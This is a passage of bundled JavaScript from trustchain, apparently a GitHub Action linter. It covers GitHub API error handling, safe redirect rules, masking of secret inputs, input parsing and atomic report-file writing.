        plain.delete("content-encoding");
        plain.delete("content-length");
        // Octokit reads as JSON only what says that it is, which not every server that speaks GitHub's API does.
        if (!plain.has("content-type") && !others.accept?.includes("raw"))
            plain.set("content-type", "application/json");
        const empty = [204, 205, 304].includes(answer.status);
        return new Response(empty ? null : answer.body, { status: answer.status, headers: plain });
    };
}
/** Octokit wraps what our client throws; other failures are answers. */
function named(error, doing, withToken) {
    if (!(error instanceof Error))
        return error;
    if (error.cause instanceof _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y)
        return new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, error.cause.reason, error.cause.remedy);
    const status = error.status;
    if (typeof status !== "number")
        return error;
    return new HttpStatusError(doing, `GitHub answered ${status} (${answerOf(error)})`, remedyFor(status, withToken), status);
}
/** Octokit appends the documentation's address to GitHub's message. */
function answerOf(error) {
    const [message = ""] = error.message.split(" - http");
    return message.slice(0, 300);
}
function remedyFor(status, withToken) {
    if (status === 401)
        return "give a valid token";
    if (status === 403)
        return "give the token the permission for it";
    if (status === 404 && !withToken)
        return "check the name, or give a token that may see it";
    if (status === 404)
        return "check the name, and that the token may see it";
    return "check the request, or try again later";
}


/***/ }),

/***/ 369:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ parseUrl)
/* harmony export */ });
/** The URL that a text is, or undefined. (`URL.parse` is younger than the oldest Node that we start on.) */
function parseUrl(text, base) {
    return URL.canParse(text, base?.href) ? new URL(text, base?.href) : undefined;
}


/***/ }),

/***/ 2116:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   $T: () => (/* binding */ requireSafe),
/* harmony export */   U9: () => (/* binding */ isLoopback),
/* harmony export */   cP: () => (/* binding */ redirected)
/* harmony export */ });
/* harmony import */ var _user_error_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(5561);
/* harmony import */ var _parse_url_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(369);


const REDIRECTS = new Set([301, 302, 303, 307, 308]);
/** All that another origin gets to see: whatever else a caller sends may be a credential. */
const HARMLESS = new Set(["accept", "accept-language", "content-type", "range", "user-agent"]);
/**
 * Where an answer sends a request, or undefined when it is no redirect.
 *
 * @throws UserError when it leads to an address that `requireSafe` refuses, or would take a body to another origin
 * @see Fetch, "HTTP-redirect fetch": the method becomes GET as browsers do it
 */
function redirected(hop, status, location, doing) {
    if (!REDIRECTS.has(status) || location === null)
        return undefined;
    const url = (0,_parse_url_js__WEBPACK_IMPORTED_MODULE_1__/* .parseUrl */ .D)(location, hop.url);
    if (url === undefined)
        throw new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, `${hop.url.host} redirects to something that is no URL`, "report it there");
    requireSafe(url, doing, isLoopback(hop.url));
    const becomesGet = status === 303 ? hop.method !== "HEAD" : status < 303 && hop.method === "POST";
    // The body may be a credential, an OAuth refresh token for one.
    if (!becomesGet && hop.body !== undefined && url.origin !== hop.url.origin) {
        const reason = `${hop.url.host} wants what it was sent to go to ${url.host}`;
        throw new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, reason, "check the address that it is asked for");
    }
    const headers = url.origin === hop.url.origin ? new Headers(hop.headers) : harmless(hop.headers);
    if (!becomesGet)
        return { url, method: hop.method, headers, body: hop.body };
    headers.delete("content-type");
    return { url, method: "GET", headers, body: undefined };
}
/**
 * Refuses what would send a request in the clear: anything but https, or http to this machine.
 *
 * @param loopbackAllowed false for a redirect from elsewhere, which has no business on this machine
 */
function requireSafe(url, doing, loopbackAllowed = true) {
    if (isLoopback(url) && !loopbackAllowed) {
        throw new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, "the server redirects to this machine", "check the address that it is asked for");
    }
    if (url.protocol === "https:" || (url.protocol === "http:" && isLoopback(url)))
        return;
    throw new _user_error_js__WEBPACK_IMPORTED_MODULE_0__/* .UserError */ .y(doing, `${url.protocol}//${url.host} is not https`, "give an https address");
}
/** Is it this machine? (RFC 1122, section 3.2.1.3; RFC 4291, section 2.5.3; RFC 6761, section 6.3) */
function isLoopback(url) {
    return url.hostname === "localhost" || url.hostname === "[::1]" || /^127(\.\d{1,3}){3}$/.test(url.hostname);
}
function harmless(headers) {
    return new Headers([...headers].filter(([name]) => HARMLESS.has(name)));
}


/***/ }),

/***/ 3978:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  yo: () => (/* reexport */ user_error/* UserError */.y),
  xv: () => (/* reexport */ version/* VERSION */.x),
  sw: () => (/* reexport */ checkInputs),
  n2: () => (/* reexport */ checkOutputs),
  QP: () => (/* reexport */ defineAction),
  au: () => (/* reexport */ didYouMean),
  WE: () => (/* reexport */ system_error/* explain */.WE),
  bD: () => (/* reexport */ system_error/* messageOf */.bD),
  dj: () => (/* reexport */ placeOfInput),
  Tf: () => (/* reexport */ runOnRunner),
  tG: () => (/* reexport */ write_file_whole_writeFileWhole)
});

// UNUSED EXPORTS: HttpStatusError, NOTHING_ASKED, NO_PROGRESS, REPORT_FORMATS, alternatives, boolean, choice, codeOf, countFailing, createGitHub, createHttp, describeError, describeReportError, duration, editDistance, exitStatusOf, failOn, integer, isLoopback, jsonOf, list, memoryHost, nearest, oneLine, parseInputs, path, quote, redact, requireFolderOf, runInTerminal, runOnHost, secret, systemClock, terminalHost, text, textOf, writeResult

;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/input.js
/** How messages call an input. */
function placeOfInput(name, place) {
    return place === "terminal" ? `--${name}` : `input ${name}`;
}
/**
 * Reads all inputs of an action.
 *
 * @returns an object without a prototype: an input may have any name
 * @throws UserError for the first input that can't be read, in the order of the declaration
 */
function parseInputs(inputs, source) {
    const values = Object.create(null);
    for (const [name, input] of Object.entries(inputs)) {
        values[name] = input.read(source.input(name), placeOfInput(name, source.place));
    }
    return values;
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/action.js

/** Declares an action: the one place that says its inputs, outputs and rights. */
function defineAction(declaration) {
    return {
        ...declaration,
        main: (run, otherwise) => ({
            async start(host, request) {
                maskSecrets(declaration.inputs, host);
                try {
                    const inputs = parseInputs(declaration.inputs, host);
                    return { outcome: await run({ inputs, host, request }), settings: settingsOf(inputs) };
                }
                catch (error) {
                    if (!otherwise)
                        throw error;
                    return { outcome: otherwise(error, host), settings: settingsOf({}) };
                }
            },
        }),
    };
}
/** Before anything is read, so that no message about another input can show one. */
function maskSecrets(inputs, host) {
    for (const [name, input] of Object.entries(inputs)) {
        if (input.kind !== "secret")
            continue;
        for (const { text } of host.input(name))
            if (text !== "")
                host.mask(text);
    }
}
/** `checkInputs` types these inputs; an action that has none of them fails on nothing and sends nothing. */
function settingsOf(inputs) {
    const token = inputs["github-token"];
    return {
        failOn: inputs["fail-on"] ?? "never",
        offline: inputs.offline === true,
        uploadSarif: inputs["upload-sarif"] === true,
        token: typeof token === "string" ? token : undefined,
    };
}

// EXTERNAL MODULE: ./packages/action-kit/lib/system-error.js
var system_error = __nccwpck_require__(9363);
// EXTERNAL MODULE: ./packages/action-kit/lib/user-error.js
var user_error = __nccwpck_require__(5561);
;// CONCATENATED MODULE: ./packages/action-kit/lib/describe-error.js


const DEFECT = "this is a defect of trustchain: please report it with this line (TRUSTCHAIN_DEBUG=1 adds where it happened)";
/**
 * An error as the lines that a user reads, without `error:`. One line, and the stack behind it where `debug` asks for it.
 * What is no `UserError` is our own mistake and says so.
 */
function describe_error_describeError(error, debug) {
    const known = asUserError(error);
    const line = known ? known.message : `trustchain: ${(0,system_error/* messageOf */.bD)(error)}: ${DEFECT}`;
    if (!debug)
        return [line];
    const stack = error?.stack ?? "";
    return [line, ...stack.split("\n").slice(1)];
}
/** An entry of a report's `errors` as such a line. */
function describe_error_describeReportError(error) {
    const place = `${error.path}:${error.line}`;
    return error.rule === null
        ? `${place}: ${error.message}`
        : `${place}: rule ${error.rule}: ${error.message}: ${DEFECT}`;
}
/** The packages below this one can't throw a `UserError`: theirs has `file`, `line`, `reason` and `remedy`. */
function asUserError(error) {
    if (error instanceof user_error/* UserError */.y)
        return error;
    if (!(error instanceof Error) || error.name !== "FormatError")
        return undefined;
    const { file, line, reason, remedy } = error;
    if (file === undefined || reason === undefined || remedy === undefined)
        return undefined;
    return new user_error/* UserError */.y(line === undefined ? file : `${file}:${line}`, reason, remedy);
}

// EXTERNAL MODULE: ./packages/action-kit/lib/host/host.js
var host = __nccwpck_require__(6416);
;// CONCATENATED MODULE: ./packages/action-kit/lib/host/memory-host.js


/** @param inputs the values by name; several for a repeated option */
function memoryHost(inputs = {}, options = {}) {
    const given = new Map(Object.entries(inputs).map(([name, value]) => [name, [value].flat().map(asGiven)]));
    const secrets = new Set();
    const host = {
        place: options.place ?? "terminal",
        cwd: options.cwd ?? ".",
        env: options.env ?? {},
        outputs: new Map(),
        notes: [],
        summaries: [],
        lines: [],
        errors: [],
        secrets,
        input: (name) => given.get(name) ?? [],
        mask: (secret) => void secrets.add(secret),
        setOutput: (name, value) => void host.outputs.set(name, value),
        annotate: (note) => void host.notes.push(note),
        summarize: async (markdown) => void host.summaries.push(markdown),
        progress: () => NO_PROGRESS,
        log: (line) => void host.lines.push(redact(line, secrets)),
        error: (line) => void host.errors.push(redact(line, secrets)),
    };
    return host;
}
function asGiven(text) {
    return { text, whole: false };
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/host/output-stream.js


/** The reader went away (`| head`), or an earlier write found that out. */
const CLOSED = new Set(["EPIPE", "ERR_STREAM_DESTROYED", "ERR_STREAM_WRITE_AFTER_END"]);
/**
 * Writes a result and waits until the system has taken all of it, so that the process may end afterwards.
 * A reader that went away is no error: it has seen what it wanted.
 *
 * @throws UserError when it can't be written, for example to a full device
 */
function output_stream_writeResult(stream, text) {
    return new Promise((resolve, reject) => {
        const settle = (error) => {
            if (!error || CLOSED.has(codeOf(error)))
                resolve();
            else
                reject(new UserError("standard output", explain(error), "free space or redirect the output elsewhere"));
        };
        stream.on("error", settle);
        try {
            stream.write(text, settle);
        }
        catch (error) {
            settle(error);
        }
    });
}

// EXTERNAL MODULE: ./packages/action-kit/lib/one-line.js
var one_line = __nccwpck_require__(9316);
;// CONCATENATED MODULE: ./packages/action-kit/lib/host/terminal-host.js




/** The host of the command line: inputs are options, everything said goes to stderr; outputs, notes and summaries are for runners only. */
function terminalHost(options) {
    const { given, stderr, quiet } = options;
    const secrets = new Set();
    // Nothing can be done about a stderr that is closed or full, and without a listener it would end the process.
    stderr.on("error", () => { });
    const say = (line) => {
        try {
            stderr.write(`${oneLine(redact(line, secrets))}\n`);
        }
        catch {
            // The same for a device that refuses at once.
        }
    };
    return {
        place: "terminal",
        cwd: options.cwd,
        env: options.env,
        input: (name) => given.get(name) ?? [],
        mask: (secret) => void secrets.add(secret),
        setOutput() { },
        annotate() { },
        async summarize() { },
        progress(label, total) {
            const visible = options.progress && !quiet && stderr.isTTY === true;
            return visible ? progressBar(label, total, stderr, performance) : NO_PROGRESS;
        },
        log(line) {
            if (!quiet)
                say(line);
        },
        error: (line) => say(`error: ${line}`),
    };
}

// EXTERNAL MODULE: ./packages/action-kit/lib/http/client.js + 3 modules
var client = __nccwpck_require__(552);
// EXTERNAL MODULE: ./packages/action-kit/lib/http/clock.js + 1 modules
var clock = __nccwpck_require__(2668);
// EXTERNAL MODULE: ./packages/action-kit/lib/http/github.js
var github = __nccwpck_require__(8307);
// EXTERNAL MODULE: ./packages/action-kit/lib/http/redirect.js
var redirect = __nccwpck_require__(2116);
;// CONCATENATED MODULE: ./packages/action-kit/lib/nearest.js
/** Longer words are nobody's typing error, and comparing them would cost the product of their lengths. */
const LONGEST = 64;
/**
 * The candidate that `word` was most likely meant to be, or undefined when none is close: at most one edit for each
 * three characters of the word (at least one). Case does not count. Of equally near candidates the first is taken.
 */
function nearest(word, candidates) {
    if (word.length > LONGEST)
        return undefined;
    const wanted = word.toLowerCase();
    let best;
    let bestDistance = Math.max(1, Math.floor(word.length / 3)) + 1;
    for (const candidate of candidates) {
        if (candidate.length > LONGEST)
            continue;
        const distance = editDistance(wanted, candidate.toLowerCase());
        if (distance < bestDistance) {
            best = candidate;
            bestDistance = distance;
        }
    }
    return best;
}
/** ` (did you mean `x`?)`, or nothing: the tail of a message about an unknown word. */
function didYouMean(word, candidates, prefix = "") {
    const candidate = nearest(word, candidates);
    return candidate === undefined ? "" : ` (did you mean \`${prefix}${candidate}\`?)`;
}
/**
 * Damerau–Levenshtein distance in its restricted form (optimal string alignment): insertions, deletions, substitutions
 * and swaps of neighbours, no part edited twice.
 */
function editDistance(a, b) {
    let beforePrevious = [];
    let previous = Array.from({ length: b.length + 1 }, (_, j) => j);
    for (let i = 1; i <= a.length; i++) {
        const current = [i];
        for (let j = 1; j <= b.length; j++) {
            const same = a[i - 1] === b[j - 1];
            let distance = Math.min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + (same ? 0 : 1));
            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1]) {
                distance = Math.min(distance, beforePrevious[j - 2] + 1);
            }
            current.push(distance);
        }
        beforePrevious = previous;
        previous = current;
    }
    return previous[b.length];
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/quote.js
const quote_LONGEST = 80;
/** What was given, in backticks and cut where it is long, for a message. */
function quote_quote(given) {
    return `\`${given.length > quote_LONGEST ? `${given.slice(0, quote_LONGEST)}…` : given}\``;
}
/** `a, b or c`. */
function alternatives(words) {
    if (words.length < 2)
        return words.join("");
    return `${words.slice(0, -1).join(", ")} or ${words.at(-1)}`;
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/builders.js



function builders_text(options) {
    return scalar("text", "TEXT", options, (given) => given);
}
function path(options) {
    return scalar("path", options.hint ?? "FILE", options, (given, place) => {
        if (given === "")
            throw new user_error/* UserError */.y(place, "the path is empty", "give the path of a file");
        return given;
    });
}
function choice(words, options) {
    const input = scalar("choice", words.join("|"), options, (given, place) => {
        const word = words.find((known) => known === given);
        if (word !== undefined)
            return word;
        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is not accepted${didYouMean(given, words)}`, `use ${alternatives(words)}`);
    });
    return { ...input, choices: words };
}
function integer(options) {
    const { min = 0, max = Number.MAX_SAFE_INTEGER } = options;
    return scalar("integer", "N", options, (given, place) => {
        const value = /^\d{1,16}$/.test(given) ? Number(given) : Number.NaN;
        if (value >= min && value <= max)
            return value;
        const range = options.max === undefined ? `at least ${min}` : `from ${min} to ${max}`;
        const wrong = Number.isNaN(value) ? "is not a whole number" : "is out of range";
        throw new UserError(place, `${quote(given)} ${wrong}`, `give digits, ${range}`);
    });
}
const MILLISECONDS = new Map([
    ["s", 1_000],
    ["m", 60_000],
    ["h", 3_600_000],
    ["d", 86_400_000],
]);
function duration(options) {
    const { default: written, ...rest } = options;
    const fallback = written === undefined ? {} : { default: parseDuration(written, "default") };
    return { ...scalar("duration", "TIME", { ...rest, ...fallback }, parseDuration), default: written };
}
function parseDuration(given, place) {
    const [, digits, unit = ""] = /^(\d{1,9})([smhd])$/.exec(given) ?? [];
    const factor = MILLISECONDS.get(unit);
    if (digits !== undefined && factor !== undefined)
        return Number(digits) * factor;
    throw new UserError(place, `${quote(given)} is not a span of time`, "give digits and a unit: seconds `30s`, minutes `5m`, hours `2h` or days `7d`");
}
const TRUE = ["true", "True", "TRUE"];
const FALSE = ["false", "False", "FALSE"];
/** Yes or no, in the words of YAML 1.2's core schema (section 10.3.2), as @actions/core reads them. False unless the default says otherwise. */
function builders_boolean(options) {
    const input = scalar("boolean", "", { default: false, ...options }, (given, place) => {
        if (TRUE.includes(given))
            return true;
        if (FALSE.includes(given))
            return false;
        throw new user_error/* UserError */.y(place, `${quote_quote(given)} is neither true nor false${didYouMean(given, ["true", "false"])}`, "use true or false");
    });
    return input;
}
/** Words: given repeatedly, or separated by commas or newlines. Spaces around a word and empty words don't count. */
function list(options) {
    const fallback = options.default ?? [];
    return {
        ...described("list", options.hint ?? "WORD", options),
        default: options.default?.join("\n"),
        operands: options.operands ?? false,
        read(given) {
            const words = given.flatMap(wordsOf);
            return words.length > 0 ? words : fallback;
        },
    };
}
function wordsOf(given) {
    if (given.whole)
        return [given.text];
    return given.text
        .split(/[,\r\n]/)
        .map((word) => word.trim())
        .filter((word) => word !== "");
}
/**
 * A token or password: masked on the runner and never printed. An empty one counts as not given, so that
 * `--github-token "$TOKEN"` works with and without the variable.
 */
function secret(options) {
    return {
        ...described("secret", "SECRET", options),
        default: options.default,
        read: (given) => given.at(-1)?.text || undefined,
    };
}
/** An input of one value, of which the last given counts. */
function scalar(kind, hint, options, parse) {
    return {
        ...described(kind, hint, options),
        default: options.default === undefined ? undefined : String(options.default),
        required: options.required ?? false,
        read(given, place) {
            const last = given.at(-1);
            if (last !== undefined)
                return parse(last.text, place);
            if (options.required)
                throw new user_error/* UserError */.y(place, "is required and was not given", `give ${hint}`);
            return options.default;
        },
    };
}
function described(kind, hint, options) {
    return {
        kind,
        hint,
        description: options.description,
        required: false,
        runnerOnly: options.runnerOnly ?? false,
        operands: false,
        choices: undefined,
    };
}

// EXTERNAL MODULE: ./packages/findings/lib/index.js + 10 modules
var lib = __nccwpck_require__(8751);
;// CONCATENATED MODULE: ./packages/action-kit/lib/inputs/check-inputs.js


/** The input `fail-on` with a default of the action's own. */
function failOn(fallback) {
    return choice([...lib/* SEVERITIES */.oC, "never"], {
        default: fallback,
        description: "Fail (exit status 1) when a finding has at least this severity",
    });
}
/** The inputs that every check has; an action spreads them among its own. */
const checkInputs = {
    paths: list({
        default: ["."],
        hint: "PATH",
        operands: true,
        description: "What to judge: folders of repositories, or single workflow, action, Docker and Dependabot files; separated by commas or newlines",
    }),
    "fail-on": failOn("medium"),
    persona: choice(lib/* PERSONAS */.Ud, {
        description: "For whom: `regular`, what nearly everyone wants fixed; `pedantic`, also style and hygiene; `auditor`, also what is only worth an auditor's look. Without it the configuration's counts, else `regular`",
    }),
    config: path({ description: "Settings; without it `.github/trustchain.yml` of the repository" }),
    baseline: path({ description: "Known findings, by fingerprint: they are reported as suppressed" }),
    offline: builders_boolean({ description: "Open no network connection, whatever else is asked" }),
    "upload-sarif": builders_boolean({
        runnerOnly: true,
        description: "Send the findings to GitHub code scanning (needs the permission `security-events: write`)",
    }),
    "github-token": secret({
        runnerOnly: true,
        default: "${{ github.token }}",
        description: "The token that sends the findings to code scanning",
    }),
};
/** The outputs that every check has. */
const checkOutputs = {
    findings: "Number of findings at or above `fail-on`",
    report: "Path of the JSON report",
    sarif: "Path of the SARIF report",
};

;// CONCATENATED MODULE: ./packages/action-kit/lib/run/outcome.js

const NOTHING_ASKED = { fix: "off", diff: false };
/** How many unsuppressed findings are at or above the threshold. */
function countFailing(report, failOn) {
    if (failOn === "never")
        return 0;
    return report.findings.filter((finding) => !finding.suppressed && (0,lib/* isAtLeast */.du)(finding.severity, failOn)).length;
}
function outcome_exitStatusOf({ report, refusal }, failOn) {
    if (!report)
        return refusal === undefined ? 0 : 1;
    if (report.errors.length > 0)
        return 2;
    return countFailing(report, failOn) > 0 ? 1 : 0;
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __nccwpck_require__(3024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __nccwpck_require__(6760);
;// CONCATENATED MODULE: ./packages/action-kit/lib/write-file-whole.js





/**
 * Writes a file whole or not at all: into a new file beside it that then takes its name. All steps are synchronous, so
 * that no handler of a signal runs between them. Rights of an existing file are kept, a symbolic link is followed, and
 * what is no regular file (a device, a pipe) is written to directly.
 *
 * @param place how an error calls the file: the option that named it, or the path itself
 * @throws UserError when the file can't be written; a former file is then as it was
 */
function write_file_whole_writeFileWhole(path, content, place = path) {
    requireFolderOf(path, place);
    try {
        const former = (0,external_node_fs_.statSync)(path, { throwIfNoEntry: false });
        if (former?.isDirectory())
            throw new user_error/* UserError */.y(place, `${quote_quote(path)} is a folder`, "name a file");
        if (former && !former.isFile())
            (0,external_node_fs_.writeFileSync)(path, content);
        else
            replaceFile(former ? (0,external_node_fs_.realpathSync)(path) : path, content, former?.mode);
    }
    catch (error) {
        if (error instanceof user_error/* UserError */.y)
            throw error;
        throw new user_error/* UserError */.y(place, `${quote_quote(path)} can't be written, ${(0,system_error/* explain */.WE)(error)}`, "mend that or choose another file");
    }
}
/**
 * Is there a folder to write `path` into?
 *
 * @throws UserError when there is none
 */
function requireFolderOf(path, place) {
    const folder = (0,external_node_path_.dirname)(path);
    let found = false;
    try {
        found = (0,external_node_fs_.statSync)(folder, { throwIfNoEntry: false })?.isDirectory() ?? false;
    }
    catch (error) {
        if ((0,system_error/* codeOf */.$N)(error) !== "ENOTDIR") {
            throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} can't be read, ${(0,system_error/* explain */.WE)(error)}`, "choose another file");
        }
    }
    if (!found)
        throw new user_error/* UserError */.y(place, `folder ${quote_quote(folder)} does not exist`, "create it or choose another file");
}
function replaceFile(path, content, mode) {
    // Should the name be taken after all, opening it fails: chance has only to make that rare.
    const chance = Math.random().toString(36).slice(2);
    const beside = (0,external_node_path_.join)((0,external_node_path_.dirname)(path), `.${(0,external_node_path_.basename)(path).slice(0, 100)}.${process.pid}-${chance}.tmp`);
    const file = (0,external_node_fs_.openSync)(beside, "wx", 0o666);
    try {
        try {
            if (mode !== undefined)
                (0,external_node_fs_.fchmodSync)(file, mode & 0o7777);
            (0,external_node_fs_.writeFileSync)(file, content);
        }
        finally {
            (0,external_node_fs_.closeSync)(file);
        }
        (0,external_node_fs_.renameSync)(beside, path);
    }
    catch (error) {
        (0,external_node_fs_.rmSync)(beside, { force: true });
        throw error;
    }
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-in-terminal.js






const REPORT_FORMATS = (/* unused pure expression or super */ null && (["text", "json", "sarif", "markdown", "github"]));
/**
 * Runs an action for the command line: results go to `stdout` or the file asked for, everything else through the host.
 *
 * @returns the exit status; never rejects
 */
async function runInTerminal(main, host, request, presentation, stdout) {
    try {
        const { outcome, settings } = await main.start(host, request);
        const status = exitStatusOf(outcome, settings.failOn);
        for (const error of outcome.report?.errors ?? [])
            host.error(describeReportError(error));
        if (outcome.refusal !== undefined)
            host.error(outcome.refusal);
        await present(outcome, request, presentation, stdout);
        for (const note of outcome.notes ?? [])
            host.log(note);
        if (outcome.report)
            host.log(closingLine(outcome.report, performance.now()));
        return status;
    }
    catch (error) {
        for (const line of describeError(error, host.env.TRUSTCHAIN_DEBUG === "1"))
            host.error(line);
        return 2;
    }
}
async function present(outcome, request, { format, output, color, width }, stdout) {
    const { report, context = NO_CONTEXT } = outcome;
    if (request.diff)
        await writeResult(stdout, outcome.diff ?? "");
    if (!report) {
        if (!request.diff)
            await writeResult(stdout, outputLines(outcome));
        return;
    }
    if (request.diff && output === undefined)
        return;
    const text = await renderReport(format, report, context, { color: color && output === undefined, width });
    if (output === undefined)
        await writeResult(stdout, text);
    else
        writeFileWhole(output, text, "--output");
}
const NO_CONTEXT = { source: () => undefined, rule: () => undefined };
/** `name: value` for each output of an action that makes no report. */
function outputLines(outcome) {
    return Object.entries(outcome.outputs ?? {})
        .map(([name, value]) => `${name}: ${oneLine(String(value))}\n`)
        .join("");
}
function closingLine(report, milliseconds) {
    const files = report.files === 1 ? "1 file" : `${report.files} files`;
    return `${files} in ${(milliseconds / 1000).toFixed(2)} s`;
}

;// CONCATENATED MODULE: external "node:os"
const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:os");
;// CONCATENATED MODULE: ./packages/action-kit/lib/run/report-files.js





const PLAIN = { color: false, width: 100 };
/**
 * Writes the report as JSON and SARIF into the runner's temporary folder.
 * The names hold the action and the step, so that they are the same in each run of a job and no two steps share them.
 */
async function writeReports(action, report, context, env) {
    const base = freeBase(env.RUNNER_TEMP || (0,external_node_os_namespaceObject.tmpdir)(), action, env.GITHUB_ACTION ?? "");
    const files = { json: `${base}.json`, sarif: `${base}.sarif` };
    write_file_whole_writeFileWhole(files.json, await (0,lib/* renderReport */.B1)("json", report, context, PLAIN));
    write_file_whole_writeFileWhole(files.sarif, await (0,lib/* renderReport */.B1)("sarif", report, context, PLAIN));
    return files;
}
/** Steps of composite actions may share a `GITHUB_ACTION`: those that come later get a number. */
function freeBase(folder, action, step) {
    const name = ["trustchain", action, step.replace(/[^A-Za-z0-9_-]+/g, "-").slice(0, 100)].filter(Boolean).join("-");
    let base = (0,external_node_path_.join)(folder, name);
    for (let n = 2; (0,external_node_fs_.existsSync)(`${base}.json`) || (0,external_node_fs_.existsSync)(`${base}.sarif`); n++)
        base = (0,external_node_path_.join)(folder, `${name}-${n}`);
    return base;
}

;// CONCATENATED MODULE: ./packages/action-kit/lib/run/run-on-runner.js




/**
 * The whole life of an action on a runner: the entry of each action's bundle.
 * Sets the exit status of the process, which fails the step; never rejects.
 */
async function runOnRunner(action, main) {
    const { runnerHost } = await __nccwpck_require__.e(/* import() */ 961).then(__nccwpck_require__.bind(__nccwpck_require__, 9961));
    process.exitCode = await runOnHost(action, main, await runnerHost());
}
/** The same on any host. */
async function runOnHost(action, main, host) {
    try {
        const { outcome, settings } = await main.start(host, NOTHING_ASKED);
        for (const [name, value] of Object.entries(outcome.outputs ?? {}))
            host.setOutput(name, value);
        for (const note of outcome.notes ?? [])
            host.log(note);
        if (outcome.refusal !== undefined)
            host.error(outcome.refusal);
        if (outcome.summary !== undefined)
            await host.summarize(outcome.summary);
        await report(action.name, outcome, settings, host);
        return outcome_exitStatusOf(outcome, settings.failOn);
    }
    catch (error) {
        for (const line of describe_error_describeError(error, debugging(host)))
            host.error(line);
        return 2;
    }
}
/** `RUNNER_DEBUG` is what the runner sets when someone runs a job again with debug logging. */
function debugging({ env }) {
    return env.TRUSTCHAIN_DEBUG === "1" || env.RUNNER_DEBUG === "1";
}
async function report(name, outcome, settings, host) {
    const { report, context = { source: () => undefined, rule: () => undefined } } = outcome;
    if (!report)
        return;
    for (const error of report.errors)
        host.error(describe_error_describeReportError(error));
    const files = await writeReports(name, report, context, host.env);
    host.setOutput("findings", countFailing(report, settings.failOn));
    host.setOutput("report", files.json);
    host.setOutput("sarif", files.sarif);
    const { annotations, jobSummary } = await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 8751));
    for (const note of annotations(report, context))
        host.annotate(inWorkspace(note, outcome.root, host.cwd));
    await host.summarize(await jobSummary(report, context));
    if (settings.uploadSarif) {
        const { uploadSarif } = await __nccwpck_require__.e(/* import() */ 778).then(__nccwpck_require__.bind(__nccwpck_require__, 1778));
        await uploadSarif(files.sarif, settings, host);
    }
}
/** GitHub finds the line of a note only by a path from the workspace; the report's start from the repository that was judged. */
function inWorkspace(note, root, workspace) {
    if (root === undefined || note.path === undefined)
        return note;
    const path = (0,external_node_path_.relative)((0,external_node_path_.resolve)(workspace), (0,external_node_path_.join)((0,external_node_path_.resolve)(workspace, root), note.path));
    return { ...note, path: path.split(external_node_path_.sep).join("/") };
}

// EXTERNAL MODULE: ./packages/action-kit/lib/version.js
var version = __nccwpck_require__(3465);
;// CONCATENATED MODULE: ./packages/action-kit/lib/index.js


























/***/ }),

/***/ 9316:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   T: () => (/* binding */ oneLine)
/* harmony export */ });
/* harmony import */ var _trustchain_findings__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(8751);

/** A text that may come from anywhere as one line that a terminal and a log show as it is. */
function oneLine(text) {
    return (0,_trustchain_findings__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(text.replace(/\r/g, "\\r").replace(/\n/g, "\\n"));
}


/***/ }),

/***/ 9363:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   $N: () => (/* binding */ codeOf),
/* harmony export */   WE: () => (/* binding */ explain),
/* harmony export */   bD: () => (/* binding */ messageOf)
/* harmony export */ });
/** The code of a system error (`ENOENT`), or nothing. */
function codeOf(error) {
    const code = error?.code;
    return typeof code === "string" ? code : "";
}
/** What an error says, whatever was thrown; errors of another realm are no `Error` of ours. */
function messageOf(error) {
    const message = error?.message;
    return typeof message === "string" ? message : String(error);
}
const REASONS = new Map([
    ["ENOSPC", "no space is left on the device"],
    ["EACCES", "permission is denied"],
    ["EPERM", "permission is denied"],
    ["EROFS", "the file system is read-only"],
    ["ENOENT", "does not exist"],
    ["ENOTDIR", "a part of the path is not a folder"],
    ["EISDIR", "is a folder"],
    ["ELOOP", "symbolic links lead in a circle"],
    ["ENAMETOOLONG", "the name is too long"],
    ["EMFILE", "too many files are open"],
    ["EIO", "the device failed"],
]);
/** What a system error means, in words. */
function explain(error) {
    return REASONS.get(codeOf(error)) ?? messageOf(error);
}


/***/ }),

/***/ 5561:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   y: () => (/* binding */ UserError)
/* harmony export */ });
/**
 * Something the user can mend: where it is, what is wrong, what to do. Printed as one line, `error: <place>: <cause>: <remedy>`.
 * Everything else that is thrown is a defect of trustchain and says so.
 */
class UserError extends Error {
    place;
    reason;
